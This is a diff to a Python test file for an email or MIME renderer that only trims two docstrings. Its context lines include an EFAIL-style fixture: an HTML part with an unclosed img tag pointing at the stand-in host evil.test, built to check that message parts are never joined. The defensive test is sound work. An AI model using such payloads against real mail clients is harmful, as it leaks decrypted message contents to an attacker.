@@ -51,7 +51,7 @@ def test_a_message_of_text_alone_has_no_html() -> None:
 
 
 def test_parts_are_never_joined_into_one_document() -> None:
-    """Check 8 of the promises: what one part leaves open ends with it (EFAIL)."""
+    """What one part leaves open ends with it (EFAIL)."""
     structure, contents = _read(
         multipart(
             b'Content-Type: text/html\r\n\r\n<img src="https://evil.test/?',
@@ -89,7 +89,6 @@ def test_more_text_than_can_be_shown_is_left_out_and_said(monkeypatch: pytest.Mo
 
 
 def test_ten_thousand_parts_are_shown_in_bounded_time() -> None:
-    """Check 12 of the promises."""
     structure, contents = _read(multipart(*[b"\r\nx"] * 9_000))
 
     with at_most_cpu_seconds(2):
